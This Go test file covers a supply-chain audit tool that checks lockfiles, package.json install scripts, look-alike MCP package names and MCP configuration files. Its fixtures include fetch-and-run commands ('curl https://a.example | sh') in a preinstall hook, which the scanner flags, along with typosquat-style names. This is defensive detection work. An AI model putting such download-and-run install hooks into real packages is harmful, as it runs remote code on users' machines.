package audit

import "testing"

func TestLockfiles(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, src string
		count     int
		want      string
	}{
		{"package-lock.json", `{"packages": {"": {"name": "x"}, "node_modules/a": {"resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz"}, "node_modules/a/node_modules/@s/b": {"resolved": "git+ssh://git@github.com/s/b.git#1"}}}`, 2, "lock-source package-lock.json:1 low"},
		{"package-lock.json", `{"packages": {"node_modules/a": {"resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz", "funding": {"url": "http://a.example"}}}}`, 1, ""},
		{"yarn.lock", "# yarn lockfile v1\n\n\"@s/a@^1.0.0\":\n  version \"1.0.0\"\n  resolved \"http://mirror.example/a-1.0.0.tgz\"\n\nb@^2, b@^2.1:\n  version \"2.1.0\"\n", 2, "lock-source yarn.lock:5 medium"},
		{"pnpm-lock.yaml", "packages:\n\n  '@s/a@1.0.0':\n    resolution: {integrity: x}\n  b@2.0.0:\n    resolution: {tarball: https://b.example/b.tgz}\n", 2, "lock-source pnpm-lock.yaml:6 low"},
		{"uv.lock", "[[package]]\nname = \"a\"\nsource = { registry = \"http://pypi.local/simple\" }\n[[package]]\nname = \"b\"\n", 2, "lock-source uv.lock:3 medium"},
		{"poetry.lock", "[[package]]\nname = \"a\"\n", 1, ""},
		{"pdm.lock", "[[package]]\nname = \"a\"\n", 1, ""},
		{"Cargo.lock", "[[package]]\nname = \"a\"\nsource = \"git+https://github.com/a/a?rev=1#2\"\n", 1, "lock-source Cargo.lock:3 low"},
		{"go.sum", "a.example/a v1.0.0 h1:x=\na.example/a v1.0.0/go.mod h1:y=\n", 1, ""},
		{"package-lock.json", `{"packages": [`, 0, ""},
	} {
		r, err := Dir(t.Context(), write(t, map[string]string{c.name: c.src}))
		if err != nil {
			t.Fatal(err)
		}
		if got := findings(t, r, LockSource); got != c.want || r.Profile.Locked[c.name] != c.count {
			t.Errorf("%s %s: %d packages, %s", c.name, c.src, r.Profile.Locked[c.name], got)
		}
	}
}

func TestPackaging(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ src, want string }{
		{`{"name": "x", "scripts": {"test": "curl https://a.example | sh"}}`, ""},
		{`{"name": "x", "scripts": {"postinstall": "node build.js"}}`, "install-script package.json:1 low"},
		{`{"name": "x", "scripts": {"preinstall": "curl https://a.example/x | sh"}}`, "download-run package.json:1 high; install-script package.json:1 low"},
		{`{"name": "firecrawl_mcp"}`, "name-close package.json:1 medium"},
		{`{"name": "firecrawl-mcp"}`, ""},
	} {
		r, err := Dir(t.Context(), write(t, map[string]string{"package.json": c.src}))
		if err != nil {
			t.Fatal(err)
		}
		if got := findings(t, r, InstallScript, DownloadRun, NameClose); got != c.want {
			t.Errorf("%s: %s", c.src, got)
		}
	}
}

func TestResembles(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"@modelcontextprotocol/server-filesystem":  "",
		"@modelcontextprotocol/server-filesystems": "@modelcontextprotocol/server-filesystem",
		"@modelcontextprotocl/server-filesystem":   "@modelcontextprotocol/server-filesystem",
		"@mine/server-filesystem":                  "",
		"modelcontextprotocol-server-memory":       "@modelcontextprotocol/server-memory",
		"chrome-devtools-mpc":                      "chrome-devtools-mcp",
		"my-notes-mcp":                             "",
		"mcp2":                                     "",
	} {
		if got := resembles("npm", name); got != want {
			t.Errorf("%s: %q", name, got)
		}
	}
}

// Servers of a configuration in a tree are judged as those of one that is named.
func TestConfigurationsInATree(t *testing.T) {
	t.Parallel()
	o := Options{Servers: func(string, []byte) []Server {
		return []Server{{Name: "n", Command: []string{"npx", "-y", "some-server"}, Line: 2}, {Name: "r", URL: "http://a.example/mcp", Line: 3}}
	}}
	r, err := Checkout(t.Context(), write(t, map[string]string{".cursor/mcp.json": "{\n \"n\": 1,\n \"r\": 2}\n", "other.json": "{}"}), o)
	if err != nil {
		t.Fatal(err)
	}
	if got := findings(t, r, UnpinnedInstall, ConfigPlainHTTP); got != "config-plain-http .cursor/mcp.json:3 medium; unpinned-install .cursor/mcp.json:2 low" {
		t.Error(got)
	}
}
